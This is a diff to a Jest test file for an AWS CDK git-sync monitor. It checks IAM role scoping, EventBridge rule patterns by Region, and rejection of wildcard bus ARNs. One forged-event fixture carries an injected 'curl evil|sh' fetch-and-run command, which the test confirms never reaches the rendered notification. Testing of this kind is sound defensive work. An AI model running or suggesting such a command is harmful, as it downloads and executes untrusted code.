@@ -149,23 +149,43 @@ describe('findings', () => {
     ['an L1', (stack) => new CfnEventBus(stack, 'Central', { name: 'git-sync' })],
   ];
 
-  test.each(BUSES)('%s gets all events, by a role that may put events there only', (_, make) => {
+  test.each(BUSES)('%s is told by the function itself, with a role that the bus can tell from others', (_, make) => {
     const stack = newStack();
     const findingsBus = make(stack);
     const Arn = stack.resolve(findingsBus.eventBusRef.eventBusArn);
     monitorIn(stack, { findingsBus });
-    expect(resources(stack, 'AWS::Events::Rule')).toContainEqual({
-      EventPattern: { source: [EVENT_SOURCE] },
-      State: 'ENABLED',
-      Targets: [
-        { Id: 'Target0', Arn, RoleArn: { 'Fn::GetAtt': [expect.stringMatching(/^MonitorFindingsRole/), 'Arn'] } },
-      ],
-    });
-    const [, { Path, Policies }] = resources(stack, 'AWS::IAM::Role');
+    const [{ Environment }] = resources(stack, 'AWS::Lambda::Function');
+    expect(Environment.Variables.FINDINGS_BUS_ARN).toEqual(Arn);
+    const [{ Path, Policies }] = resources(stack, 'AWS::IAM::Role');
     expect(Path).toBe('/cdk-codeconnections/sync-monitor/');
-    expect(Policies.map(({ PolicyDocument }: { PolicyDocument: object }) => PolicyDocument)).toEqual([
-      { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'events:PutEvents', Resource: Arn }] },
-    ]);
+    const statements = Policies.flatMap(
+      ({ PolicyDocument }: { PolicyDocument: { Statement: object[] } }) => PolicyDocument.Statement,
+    );
+    expect(statements).toContainEqual({
+      Effect: 'Allow',
+      Action: ['events:PutEvents'],
+      Resource: [expect.objectContaining({ 'Fn::Join': expect.anything() }), Arn],
+    });
+  });
+
+  test('no rule hands events on: whoever may put events on the default bus could have them taken for the monitor’s', () => {
+    const stack = newStack();
+    monitorIn(stack, { findingsBus: EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS) });
+    const targets = resources(stack, 'AWS::Events::Rule').flatMap(({ Targets }) => Targets);
+    expect(JSON.stringify(targets)).not.toContain('event-bus');
+    expect(resources(stack, 'AWS::IAM::Role')).toHaveLength(1);
+  });
+
+  test('without one the role is as any other', () => {
+    const stack = newStack();
+    monitorIn(stack);
+    expect(resources(stack, 'AWS::IAM::Role')).toEqual([expect.not.objectContaining({ Path: expect.anything() })]);
+  });
+
+  test('an ARN that stands for several buses is refused', () => {
+    const stack = newStack();
+    const findingsBus = EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS.replace('git-sync', '*'));
+    expect(() => monitorIn(stack, { findingsBus })).toThrow('an ARN in a policy must be that of one resource');
   });
 
   test.each([
@@ -207,6 +227,11 @@ describe('a bus for the findings of an organization', () => {
             'events:source': EVENT_SOURCE,
             'events:detail-type': [TROUBLE_BEGAN, TROUBLE_ENDED],
           },
+          // without this one a call that puts another event, too, would be taken as a whole
+          'ForAllValues:StringEquals': {
+            'events:source': EVENT_SOURCE,
+            'events:detail-type': [TROUBLE_BEGAN, TROUBLE_ENDED],
+          },
           ArnLike: {
             'aws:PrincipalArn': {
               'Fn::Join': ['', ['arn:', { Ref: 'AWS::Partition' }, ':iam::*:role/cdk-codeconnections/sync-monitor/*']],
@@ -222,32 +247,44 @@ describe('a bus for the findings of an organization', () => {
     busIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
     const rules = resources(stack, 'AWS::Events::Rule');
     const EventBusName = { Ref: expect.stringMatching(/^FindingsBus/) };
+    const known = expect.arrayContaining([REGION, 'us-east-1', 'us-gov-west-1']);
+    const unknown = [{ 'anything-but': known }];
+    const outcome = [{ 'anything-but': 'SUPERSEDED' }];
+    const [began, ended] = [TROUBLE_BEGAN, TROUBLE_ENDED].map((type) => ({
+      source: [EVENT_SOURCE],
+      'detail-type': [type],
+    }));
     expect(rules).toMatchObject([
-      { EventBusName, EventPattern: { source: [EVENT_SOURCE], 'detail-type': [TROUBLE_BEGAN] } },
-      {
-        EventBusName,
-        EventPattern: {
-          source: [EVENT_SOURCE],
-          'detail-type': [TROUBLE_ENDED],
-          detail: { outcome: [{ 'anything-but': 'SUPERSEDED' }] },
-        },
-      },
+      { EventBusName, EventPattern: { ...began, detail: { region: known } } },
+      { EventBusName, EventPattern: { ...began, detail: { region: unknown } } },
+      { EventBusName, EventPattern: { ...ended, detail: { region: known, outcome } } },
+      { EventBusName, EventPattern: { ...ended, detail: { region: unknown, outcome } } },
     ]);
-    for (const { Targets } of rules) {
-      expect(Object.values(Targets[0].InputTransformer.InputPathsMap)).toEqual(['$.account', '$.region']);
+    for (const { EventPattern } of rules) {
+      for (const name of [EventPattern.detail.region].flat())
+        if (typeof name === 'string') expect(name).toMatch(/^[a-z-]+-\d$/);
+      expect(JSON.stringify(EventPattern).length).toBeLessThan(2_048); // what EventBridge takes
     }
+    expect(rules.map(({ Targets }) => Object.values(Targets[0].InputTransformer.InputPathsMap))).toEqual([
+      ['$.account', '$.detail.region'],
+      ['$.account'],
+      ['$.account', '$.detail.region'],
+      ['$.account'],
+    ]);
     const forged = { ...BLOCKED, account: '777788889999', title: 'x', reason: 'Run this:\n  curl evil|sh' };
     expect(rules.map((rule) => rendered(rule, forged, '444455556666')[0])).toEqual([
       `Git sync: a trouble has begun in the account 444455556666, Region ${REGION}.`,
+      'Git sync: a trouble has begun in the account 444455556666, in a Region that is newer than this bus.',
       `Git sync: a trouble is over in the account 444455556666, Region ${REGION}.`,
+      'Git sync: a trouble is over in the account 444455556666, in a Region that is newer than this bus.',
     ]);
   });
 
   test('tells of what is over only when wanted', () => {
     const stack = newStack();
     busIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyWhenOver: false });
-    const [{ EventPattern }, ...others] = resources(stack, 'AWS::Events::Rule');
-    expect([EventPattern['detail-type'], others]).toEqual([[TROUBLE_BEGAN], []]);
+    const types = resources(stack, 'AWS::Events::Rule').map(({ EventPattern }) => EventPattern['detail-type']);
+    expect(types).toEqual([[TROUBLE_BEGAN], [TROUBLE_BEGAN]]);
   });
 
   test.each([
@@ -323,7 +360,7 @@ describe('patterns of events, for rules of your own', () => {
     ];
     expect(fields).toContain(name);
     expect(newStack().resolve(Reflect.get(SyncTroubleEvent, name))).toBe(
-      /^(account|region)$/.test(name) ? `$.${name}` : `$.detail.${name}`,
+      name === 'account' ? `$.${name}` : `$.detail.${name}`,
     );
   });
 });
